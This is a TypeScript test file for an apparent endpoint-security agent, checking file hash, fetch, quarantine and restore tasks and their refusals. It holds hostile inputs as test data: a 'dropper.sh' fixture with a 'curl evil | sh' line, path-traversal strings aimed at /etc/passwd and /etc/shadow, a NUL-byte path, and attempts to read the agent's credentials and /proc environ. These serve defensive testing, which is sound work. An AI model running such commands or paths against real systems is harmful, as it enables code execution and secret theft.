import { createHash } from 'node:crypto';
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  symlinkSync,
  utimesSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import type { TaskResponse } from '@tripwire/proto';
import { describe, expect, it } from 'vitest';
import { statusName, type TaskBench, taskBench, tempDir } from './task-harness.js';

const sha256 = (data: Buffer | string) => createHash('sha256').update(data).digest('hex');

const hash = (path: string) => ({ task: { $case: 'fileHash' as const, fileHash: { path } } });
const fetch = (path: string, maxBytes = 0) => ({
  task: { $case: 'fileFetch' as const, fileFetch: { path, maxBytes } },
});
const quarantine = (path: string) => ({
  task: { $case: 'quarantineFile' as const, quarantineFile: { path } },
});
const restore = (quarantineId: string) => ({
  task: { $case: 'restoreFile' as const, restoreFile: { quarantineId } },
});

function fetched(bench: TaskBench, final: TaskResponse): Buffer {
  const chunks = bench
    .of(final.taskId)
    .filter((r) => !r.isFinal && r.response?.$case === 'fileFetch')
    .map((r) => (r.response as { fileFetch: { content: Uint8Array; offset: number } }).fileFetch);
  let expected = 0;
  for (const c of chunks) {
    expect(c.offset).toBe(expected);
    expect(c.content.length).toBeLessThanOrEqual(64 * 1024);
    expected += c.content.length;
  }
  return Buffer.concat(chunks.map((c) => c.content));
}

describe('file_hash', () => {
  it('reports sha256, size, mode, owner and mtime', async () => {
    const bench = await taskBench();
    const path = join(tempDir('hash'), 'evil.bin');
    writeFileSync(path, 'payload');
    chmodSync(path, 0o4750);
    utimesSync(path, new Date(), new Date('2024-01-02T03:04:05Z'));
    const final = await bench.run(hash(path));
    expect(statusName(final)).toBe('TASK_STATUS_SUCCEEDED');
    expect(final.response).toEqual({
      $case: 'fileHash',
      fileHash: expect.objectContaining({
        path,
        sha256: sha256('payload'),
        size: 7,
        mode: '4750',
        uid: process.getuid!(),
        mtimeUs: Date.parse('2024-01-02T03:04:05Z') * 1000,
      }),
    });
  });
});

describe('file_fetch', () => {
  it('sends the content in ordered chunks of at most 64 KiB, with size and hash', async () => {
    const bench = await taskBench();
    const path = join(tempDir('fetch'), 'big.log');
    const content = Buffer.from(Array.from({ length: 200_000 }, (_, i) => i % 251));
    writeFileSync(path, content);
    const final = await bench.run(fetch(path));
    expect(statusName(final)).toBe('TASK_STATUS_SUCCEEDED');
    expect(fetched(bench, final).equals(content)).toBe(true);
    expect(final.truncated).toBe(false);
    expect(final.response).toMatchObject({ fileFetch: { size: 200_000, sha256: sha256(content) } });
  });

  it('stops at the cap (the smaller of the request and the agent) and marks it truncated', async () => {
    const bench = await taskBench({ maxFetchBytes: 150_000 });
    const path = join(tempDir('fetch'), 'big.log');
    const content = Buffer.alloc(200_000, 7);
    writeFileSync(path, content);
    const asked = await bench.run(fetch(path, 70_000));
    expect(fetched(bench, asked).length).toBe(70_000);
    const capped = await bench.run(fetch(path, 1_000_000));
    expect(fetched(bench, capped).length).toBe(150_000);
    expect(capped.truncated).toBe(true);
    expect(capped.response).toMatchObject({
      fileFetch: { size: 200_000, sha256: sha256(content.subarray(0, 150_000)) },
    });
  });
});

describe('file actions against a responder who wants the agent itself', () => {
  it("never fetches the agent's own token, nor its environment through /proc", async () => {
    const bench = await taskBench();
    writeFileSync(join(bench.stateDir, 'credentials.json'), '{"agentToken":"secret"}');
    const token = await bench.run(fetch(join(bench.stateDir, 'credentials.json')));
    expect(statusName(token)).toBe('TASK_STATUS_REFUSED');
    expect(token.error).toContain('credentials');
    expect(fetched(bench, token).length).toBe(0);
    // The agent's environment holds its enrollment token; /proc/<pid> is a real folder path.
    process.env.TRIPWIRE_ENROLL_TOKEN = 'enroll-secret';
    try {
      for (const path of [`/proc/${process.pid}/environ`, '/sys/kernel/uevent_seqnum']) {
        const final = await bench.run(fetch(path));
        expect(statusName(final), path).toBe('TASK_STATUS_REFUSED');
        expect(final.error, path).toMatch(/kernel's (proc|sysfs) filesystem/);
        expect(fetched(bench, final).toString()).not.toContain('enroll-secret');
      }
    } finally {
      delete process.env.TRIPWIRE_ENROLL_TOKEN;
    }
  });
});

describe('quarantine_file and restore_file', () => {
  it('moves the file away at mode 0000 with its hash recorded, and puts it back as it was', async () => {
    const bench = await taskBench();
    const path = join(tempDir('quarantine'), 'dropper.sh');
    writeFileSync(path, '#!/bin/sh\ncurl evil | sh\n');
    chmodSync(path, 0o755);
    const q = await bench.run(quarantine(path));
    expect(statusName(q)).toBe('TASK_STATUS_SUCCEEDED');
    const { quarantineId, sha256: recorded } = (
      q.response as { quarantineFile: { quarantineId: string; sha256: string } }
    ).quarantineFile;
    expect(recorded).toBe(sha256('#!/bin/sh\ncurl evil | sh\n'));
    expect(existsSync(path)).toBe(false);
    const held = join(bench.stateDir, 'quarantine', quarantineId);
    expect(lstatSync(held).mode & 0o7777).toBe(0);
    const manifest = JSON.parse(
      readFileSync(join(bench.stateDir, 'quarantine', 'manifest.json'), 'utf8'),
    );
    expect(manifest.files).toEqual([
      expect.objectContaining({
        id: quarantineId,
        originalPath: path,
        sha256: recorded,
        state: 'held',
      }),
    ]);

    const r = await bench.run(restore(quarantineId));
    expect(statusName(r)).toBe('TASK_STATUS_SUCCEEDED');
    expect(readFileSync(path, 'utf8')).toBe('#!/bin/sh\ncurl evil | sh\n');
    expect(lstatSync(path).mode & 0o7777).toBe(0o755);
    expect(existsSync(held)).toBe(false);
    // Restored once: a second restore finds nothing held.
    expect(statusName(await bench.run(restore(quarantineId)))).toBe('TASK_STATUS_FAILED');
  });

  it('refuses to restore over a file that took the original path, and keeps the quarantined one', async () => {
    const bench = await taskBench();
    const path = join(tempDir('quarantine'), 'x');
    writeFileSync(path, 'old');
    const q = await bench.run(quarantine(path));
    const { quarantineId } = (q.response as { quarantineFile: { quarantineId: string } })
      .quarantineFile;
    writeFileSync(path, 'new');
    const r = await bench.run(restore(quarantineId));
    expect(statusName(r)).toBe('TASK_STATUS_REFUSED');
    expect(r.error).toContain('taken');
    expect(readFileSync(path, 'utf8')).toBe('new');
    expect(existsSync(join(bench.stateDir, 'quarantine', quarantineId))).toBe(true);
  });

  it('refuses a symlink, a symlinked folder on the way, a folder, and the agent state folder', async () => {
    const bench = await taskBench();
    const dir = tempDir('quarantine');
    const target = join(dir, 'precious');
    writeFileSync(target, 'keep me');
    symlinkSync(target, join(dir, 'link'));
    mkdirSync(join(dir, 'real'));
    writeFileSync(join(dir, 'real', 'f'), 'f');
    symlinkSync(join(dir, 'real'), join(dir, 'via'));
    writeFileSync(join(bench.stateDir, 'secret'), 's');
    const cases: Array<[string, string]> = [
      [join(dir, 'link'), 'symlink'],
      [join(dir, 'via', 'f'), 'symlinked folder'],
      [dir, 'not a regular file'],
      [join(bench.stateDir, 'tasks.json'), 'state folder'],
      [join(bench.stateDir, 'secret'), 'state folder'],
    ];
    for (const [path, reason] of cases) {
      const final = await bench.run(quarantine(path));
      expect(statusName(final), path).toBe('TASK_STATUS_REFUSED');
      expect(final.error).toContain(reason);
    }
    expect(readFileSync(target, 'utf8')).toBe('keep me');
    expect(existsSync(join(dir, 'real', 'f'))).toBe(true);
  });
});

describe('file actions with nasty paths', () => {
  it.each([
    ['relative', 'etc/passwd'],
    ['..', '/tmp/../etc/shadow'],
    ['.', '/tmp/./x'],
    ['double slash', '//etc/passwd'],
    ['trailing slash', '/etc/'],
    ['NUL', '/etc/passwd\0.txt'],
    ['huge', `/${'a'.repeat(5000)}`],
  ])('refuses a %s path for every file action', async (_what, path) => {
    const bench = await taskBench();
    for (const request of [hash(path), fetch(path), quarantine(path)]) {
      expect(statusName(await bench.run(request))).toBe('TASK_STATUS_REFUSED');
    }
  });

  it('refuses a FIFO (a read would hang) and fails a missing file naming it', async () => {
    const bench = await taskBench();
    const dir = tempDir('nasty');
    const { execFileSync } = await import('node:child_process');
    execFileSync('mkfifo', [join(dir, 'fifo')]);
    expect(statusName(await bench.run(fetch(join(dir, 'fifo'))))).toBe('TASK_STATUS_REFUSED');
    const missing = await bench.run(hash(join(dir, 'missing')));
    expect(statusName(missing)).toBe('TASK_STATUS_FAILED');
    expect(missing.error).toContain('does not exist');
  });

  it('refuses a restore id that is not a quarantine id', async () => {
    const bench = await taskBench();
    for (const id of ['../../etc/passwd', '', 'x'.repeat(1000)])
      expect(statusName(await bench.run(restore(id)))).toBe('TASK_STATUS_REFUSED');
  });
});
